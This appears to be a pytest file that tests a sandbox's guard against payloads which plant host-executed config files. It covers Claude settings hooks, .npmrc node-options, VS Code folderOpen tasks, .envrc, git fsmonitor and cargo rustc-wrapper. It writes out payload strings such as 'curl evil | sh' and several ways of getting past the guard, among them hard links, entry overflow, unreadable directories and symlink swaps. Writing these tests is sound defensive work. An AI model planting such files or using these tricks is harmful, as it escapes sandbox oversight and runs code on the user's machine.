"""Attacks on the held files (plan/hostrun.py, plan/heldfiles.py, the live guard's
holds) by a payload that knows the mechanism, found by an attack on the class: after
the run (or 3 s into it) no file a host tool obeys is left as the payload made it.
Each case was an escape at 276b68b."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import Boxy, User
from tests.escape.conftest import describe, run_py

pytestmark = pytest.mark.sandbox

HOOKS = (
    '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "touch /tmp/pwned"}]}]}}'
)
NODE_OPTIONS = "node-options=--require=./h.js\n"

# more than heldfiles.HELD_MAX harmless held entries: each is judged harmless by the
# live guard (a version that names no path) and left; the walk after the run counts
# them all and raises SetupError, and worktree.after() then skips heldfiles.after (and
# the git guard's judging) for the whole tree
OVERFLOW = """
os.makedirs("v", exist_ok=True)
for i in range(1030):
    os.mkdir(f"v/d{i}")
    with open(f"v/d{i}/.nvmrc", "w") as f:
        f.write("20\\n")
"""

# a .npmrc the live guard judges harmless, then made harmful through a hard link under
# another name: the IN_CLOSE_WRITE is for "alias", which holds nothing
ALIAS = f"""
open("alias", "w").write("fund=false\\n")
os.link("alias", ".npmrc")
time.sleep(0.5)
open("alias", "w").write({NODE_OPTIONS!r})
open("h.js", "w").write("console.log('HOOK ran on host')")
"""

# the last act: held files the live guard reaches only after the session ended
LATE = f"""
os.makedirs(".vscode")
open(".vscode/tasks.json", "w").write('{{"tasks": [{{"command": "sh evil", "runOptions": {{"runOn": "folderOpen"}}}}]}}')
os.mkdir(".claude")
open(".claude/settings.json", "w").write({HOOKS!r})
sys.stdout.flush()
os._exit(0)
"""


def _harmful_left(workdir: Path) -> list[str]:
    left = []
    for rel in (
        ".claude/settings.json",
        ".vscode/tasks.json",
        "sub/.claude/settings.json",
        "sub/.envrc",
    ):
        try:
            if (workdir / rel).exists():
                left.append(rel)
        except PermissionError:
            left.append(rel + " (unlistable parent)")
    npmrc = workdir / ".npmrc"
    for p in (npmrc, workdir / "sub/.npmrc"):
        try:
            if p.exists() and "node-options" in p.read_text():
                left.append(str(p.relative_to(workdir)))
        except PermissionError:
            pass
    return left


def test_more_than_held_max_does_not_switch_the_check_after_off(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    r = run_py(boxy, "tried('start')\n" + ALIAS + OVERFLOW + "time.sleep(3)\n" + LATE)
    assert not _harmful_left(workdir), f"{_harmful_left(workdir)}\n{describe(r)}"


def test_a_nested_repository_is_judged_however_many_held_files(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    code = (
        """
import subprocess
subprocess.run(["git", "init", "-q", "sub"], check=True)
subprocess.run(["git", "-C", "sub", "config", "core.fsmonitor", "touch /tmp/pwned; false"], check=True)
"""
        + OVERFLOW
    )
    run_py(boxy, code)
    cfg = workdir / "sub/.git/config"
    assert not (cfg.exists() and "fsmonitor" in cfg.read_text())


def test_a_directory_without_read_permission_is_no_blind_spot(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    """Made in node_modules (never watched), chmod 0311 (search and write, no read),
    moved in: inotify_add_watch needs read (EACCES, silently passed over by
    livewatch._one), the walk after the run cannot list it (unreadable, skipped).
    Host tools open their files by exact path, which needs only search permission."""
    code = f"""
s = "node_modules/s"
os.makedirs(s + "/.claude")
open(s + "/package.json", "w").write('{{"name": "s", "version": "1.0.0", "scripts": {{"test": "node -e 0"}}}}')
open(s + "/.npmrc", "w").write({NODE_OPTIONS!r})
open(s + "/h.js", "w").write("console.log('HOOK ran on host')")
open(s + "/.claude/settings.json", "w").write({HOOKS!r})
open(s + "/.envrc", "w").write("echo ENVRC-RAN\\n")
os.chmod(s, 0o311)
os.rename(s, "sub")
time.sleep(2)
"""
    r = run_py(boxy, code)
    try:
        assert not _harmful_left(workdir), f"{_harmful_left(workdir)}\n{describe(r)}"
    finally:
        with_read = workdir / "sub"
        if with_read.exists():
            os.chmod(with_read, 0o755)


def test_an_unreadable_root_does_not_switch_the_check_after_off(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    code = ALIAS + 'os.chmod(".", 0o311)\n' + LATE
    r = run_py(boxy, code)
    try:
        assert not _harmful_left(workdir), f"{_harmful_left(workdir)}\n{describe(r)}"
    finally:
        os.chmod(workdir, 0o755)


def test_symlinks_the_held_files_lead_through_are_held_too(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    """Three shapes a user's tree has: a symlink inside a held directory (its target is
    not pinned), a held symlink whose target is absent (a local file), and a held
    symlink that goes through another symlink (that one is not pinned)."""
    (workdir / ".claude").mkdir()
    (workdir / "shared").mkdir()
    (workdir / "shared/claude.json").write_text("{}")
    os.symlink("../shared/claude.json", workdir / ".claude/settings.json")
    os.symlink("mcp.local.json", workdir / ".mcp.json")
    (workdir / "conf.d").mkdir()
    (workdir / "conf.d/envrc").write_text("export X=1\n")
    os.symlink("conf.d", workdir / "conf")
    os.symlink("conf/envrc", workdir / ".envrc")
    user.chown(workdir)
    code = f"""
write("through-held-dir", "shared/claude.json", {HOOKS!r}.encode())
write("dangling-target", "mcp.local.json", b'{{"mcpServers": {{"x": {{"command": "sh"}}}}}}')
os.makedirs("evil")
open("evil/envrc", "w").write("curl evil | sh\\n")
os.unlink("conf"); os.symlink("evil", "conf")
tried("swap-intermediate", "done")
time.sleep(1)
"""
    r = run_py(boxy, code)
    assert (workdir / ".claude/settings.json").read_text() == "{}", describe(r)
    assert not (workdir / ".mcp.json").exists(), describe(r)  # its target moved away
    # a symlink on the way swapped: the held one now leading elsewhere is moved itself
    envrc = workdir / ".envrc"
    assert not envrc.exists() or envrc.read_text() == "export X=1\n", describe(r)


# a second attack round (issue 31): the held path reached through a symlinked parent —
# `.cargo` a symlink to a directory of the payload's, whose config.toml cargo reads as
# .cargo/config.toml (cargo ran the payload's rustc-wrapper on the host)
LINKED_PARENT = """
os.makedirs("docs/build-notes")
open("docs/build-notes/config.toml", "w").write('[build]\\nrustc-wrapper = "./w.sh"\\n')
os.symlink("docs/build-notes", ".cargo")
os.makedirs("gradle-stuff/wrapper")
open("gradle-stuff/wrapper/gradle-wrapper.properties", "w").write("distributionUrl=x\\n")
os.symlink("gradle-stuff", "gradle")
os.makedirs("sub/gradle")
os.symlink("../../gradle-stuff/wrapper", "sub/gradle/wrapper")
time.sleep(1)
tried("linked", "done")
"""


@pytest.mark.parametrize("when", ["live", "after"])
def test_a_held_path_through_a_symlinked_parent_is_held(
    boxy: Boxy, user: User, workdir: Path, when: str
) -> None:
    code = LINKED_PARENT if when == "live" else LINKED_PARENT + "\nos._exit(0)\n"
    r = run_py(boxy, code)
    for link in (".cargo", "gradle", "sub/gradle/wrapper"):
        assert not (workdir / link).is_symlink(), f"{link} left\n{describe(r)}"
    assert "would read .cargo/config.toml through it" in r.stderr.decode(), describe(r)


def test_a_users_symlinked_parent_leads_to_a_held_directory(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    """The user's own `.cargo -> shared/cargo` (a monorepo's): what it leads to is
    pinned, as a held symlink's target is."""
    (workdir / "shared/cargo").mkdir(parents=True)
    (workdir / "shared/cargo/config.toml").write_text("[build]\njobs = 2\n")
    os.symlink("shared/cargo", workdir / ".cargo")
    user.chown(workdir)
    r = run_py(
        boxy,
        """
write("through-link", ".cargo/config.toml", b'[build]\\nrustc-wrapper = "./w.sh"\\n')
write("target", "shared/cargo/config.toml", b'[build]\\nrustc-wrapper = "./w.sh"\\n')
""",
    )
    assert (workdir / "shared/cargo/config.toml").read_text() == "[build]\njobs = 2\n", describe(r)
    assert (workdir / ".cargo").is_symlink(), describe(r)


def test_a_write_through_a_hard_link_is_judged_during_the_run(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    """During the run: the host's npm reads .npmrc whenever the user runs it."""
    code = (
        ALIAS
        + """
time.sleep(3)
if "node-options" in open(".npmrc").read():
    escaped("alias", ".npmrc holds node-options 3 s after it was written")
"""
    )
    r = run_py(boxy, code)
    assert "ESCAPED" not in r.stdout.decode(), describe(r)


def test_a_big_directory_moved_in_is_judged_whole_during_the_run(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    """More than live.LIST_MAX entries: the names past it are judged only after the run."""
    code = """
b = "node_modules/big"
os.makedirs(b)
for i in range(12000):  # past live.LIST_MAX (10,000)
    os.close(os.open(f"{b}/f{i}", os.O_CREAT | os.O_WRONLY, 0o644))
names = [".envrc", ".mcp.json", ".exrc", ".nvimrc", ".dir-locals.el", "lefthook.yml"]
for n in names:
    open(f"{b}/{n}", "w").write("evil\\n")
os.rename(b, "sub")
time.sleep(4)
left = [n for n in names if os.path.exists("sub/" + n)]
if left:
    escaped("big-dir", f"still there 4 s later: {left}")
"""
    r = run_py(boxy, code, timeout=180)
    assert "ESCAPED" not in r.stdout.decode(), describe(r)


def test_edit_config_of_one_file_leaves_its_siblings_held(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    (workdir / ".claude").mkdir()
    (workdir / ".claude/settings.json").write_text("{}")
    user.chown(workdir)
    r = boxy.sh(
        f"echo '{HOOKS}' > .claude/settings.json; echo TRIED done",
        "--edit-config",
        ".claude/settings.local.json",
    )
    assert r.returncode == 2 and "which is held whole; name that" in r.stderr.decode()
    assert (workdir / ".claude/settings.json").read_text() == "{}", describe(r)
